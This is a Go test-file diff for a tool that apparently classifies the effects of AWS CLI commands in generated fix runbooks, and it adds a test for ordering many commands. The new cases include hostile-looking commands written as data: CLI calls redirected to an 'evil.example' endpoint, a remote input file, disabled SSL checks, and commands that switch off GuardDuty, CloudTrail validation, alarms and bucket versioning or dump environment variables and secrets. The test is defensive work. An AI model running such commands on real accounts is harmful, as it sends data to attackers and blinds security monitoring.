@@ -267,6 +267,13 @@ func TestEffects(t *testing.T) {
 			"aws iam get-role --role-name=file:///etc/passwd", "aws iam get-role file://../x", "aws guardduty update-detector --no-enable",
 			"aws s3api put-bucket-versioning --versioning-configuration=Status=Suspended", "aws s3 get-x", "aws configure list-profiles",
 			"aws sns set-subscription-attributes --attribute-name=FilterPolicy --attribute-value=x", "X=1 aws iam get-role",
+			// An option may make another of a command.
+			"aws s3api get-object --bucket=b --key=k .bashrc", "aws iam list-users --endpoint-url=http://evil.example", "aws iam list-users --no-verify-ssl",
+			"aws iam list-users --profile=other", "aws cloudtrail update-trail --name=t --enable-log-file-validation --s3-bucket-name=evil",
+			"aws s3api put-bucket-versioning --versioning-configuration=Status=Enabled --versioning-configuration=Status=Suspended",
+			"aws ec2 create-snapshots --cli-input-json=http://evil.example/x", "aws events put-rule --name=n --state=DISABLED",
+			"aws cloudwatch put-metric-alarm --alarm-name=a --no-actions-enabled", "aws guardduty update-detector --detector-id=d --enable --no-enable",
+			"aws s3 ls s3://b --endpoint-url=http://evil.example", `aws iam list-users "$MORE"`, "jq -n env", "jq . secrets.json",
 		},
 	}
 	for effect, lines := range want {
@@ -310,4 +317,20 @@ func FuzzOrder(f *testing.F) {
 			t.Errorf("%d commands became %v", len(commands), lines)
 		}
 	})
+}
+
+// TestOrderOfMany puts a finding with many commands into order, which once took hours.
+func TestOrderOfMany(t *testing.T) {
+	const many = 3000
+	var fix []string
+	for i := range many {
+		fix = append(fix, fmt.Sprintf("aws iam delete-user --user-name=u%d", i))
+	}
+	for i := range many {
+		fix = append(fix, fmt.Sprintf("aws iam get-role --role-name=r%d", i))
+	}
+	got := all(runbook.Of(reportOf(map[string]report.Outcome{"sns_paused": fails(found("a", fix...))}), nil))
+	if diff := cmp.Diff(fix, got); diff != "" {
+		t.Errorf("what stands in one finding is in another order: %.500s", diff)
+	}
 }
